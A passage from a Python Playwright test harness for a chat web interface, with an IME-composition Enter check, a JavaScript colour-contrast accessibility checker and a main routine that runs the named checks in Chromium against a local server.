      new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }))""")
    check.that("Enter within a word that is being composed sends nothing", page.locator(".turn").count() == 1)
    page.context.close()


CONTRAST = """() => {
  const rgb = (text) => (text.match(/[\\d.]+/g) ?? []).map(Number);
  const light = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => v <= .03928 ? v / 12.92
    : ((v + .055) / 1.055) ** 2.4).reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
  const ground = (e) => { for (; e; e = e.parentElement) { const c = rgb(getComputedStyle(e).backgroundColor);
    if (c.length === 3 || c[3] === 1) return c; } return [255, 255, 255]; };
  const found = [];
  for (const e of document.querySelectorAll('body *')) {
    const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim());
    if (!own || !e.offsetParent || e.closest('.unseen, .skip, svg, select, :disabled')) continue;
    const [a, b] = [light(rgb(getComputedStyle(e).color)), light(ground(e))].sort((x, y) => y - x);
    const ratio = (a + .05) / (b + .05);
    if (ratio < 4.5) found.push(e.className + ' ' + e.textContent.slice(0, 20) + ' ' + ratio.toFixed(2));
  }
  return found; }"""

CHECKS = [markdown, conversation, streaming, errors, beside, looks, judge, accessible, hostile, heavy]


def main():
    from playwright.sync_api import sync_playwright
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--shots", help="a folder for pictures")
    parser.add_argument("--only", nargs="*", help="names of checks")
    parser.add_argument("--chromium", default="/usr/bin/chromium")
    options = parser.parse_args()
    if options.shots:
        os.makedirs(options.shots, exist_ok=True)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    failed = []
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=options.chromium, args=["--no-sandbox", "--disable-gpu"])
        for run in CHECKS:
            if options.only and run.__name__ not in options.only:
                continue
            SCRIPT.reset()
            check, start = Check(browser, f"http://127.0.0.1:{server.server_port}/", options.shots), time.time()
            print(run.__name__)
            try:
                run(check)
            except Exception as error:      # the other checks run nevertheless
                check.that(f"{run.__name__}: {error}", False)
            failed += check.failed
            print(f"  {'ok' if not check.failed else 'failed'}, {time.time() - start:.0f} s")
        browser.close()
    print(f"{len(failed)} failed" if failed else "all hold")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
